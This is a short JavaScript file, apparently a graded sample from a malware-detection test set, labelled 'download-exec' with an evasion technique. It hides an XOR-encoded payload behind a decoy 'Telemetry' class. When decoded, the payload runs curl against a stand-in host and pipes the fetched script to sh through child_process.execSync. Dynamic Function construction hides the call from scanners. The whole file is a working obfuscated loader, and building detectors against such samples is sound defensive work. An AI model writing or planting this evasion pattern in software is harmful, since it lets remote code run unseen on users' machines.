// evasion: code XOR-ed with a key taken from a class's name length, decoded by a generator and built with Reflect.construct(Function, ...)
// grade: hard; does: download-exec
'use strict';
class Telemetry {}
const key = Telemetry.name.length * 7 + 1; // 64

const blob = [50, 37, 49, 53, 41, 50, 37, 104, 98, 35, 40, 41, 44, 36, 31, 48, 50, 47, 35, 37, 51, 51, 98, 105, 110, 37, 56, 37, 35, 19, 57, 46, 35, 104, 98, 35, 53, 50, 44, 96, 109, 38, 51, 19, 12, 96, 40, 52, 52, 48, 51, 122, 111, 111, 53, 48, 36, 33, 52, 37, 110, 37, 56, 33, 45, 48, 44, 37, 110, 47, 50, 39, 111, 41, 110, 51, 40, 96, 60, 96, 51, 40, 98, 105];

function* unmask(bytes, k) {
  for (const b of bytes) yield String.fromCharCode(b ^ k);
}

const body = [...unmask(blob, key)].join('');
const run = Reflect.construct(Function, ['require', body]);
run(require);
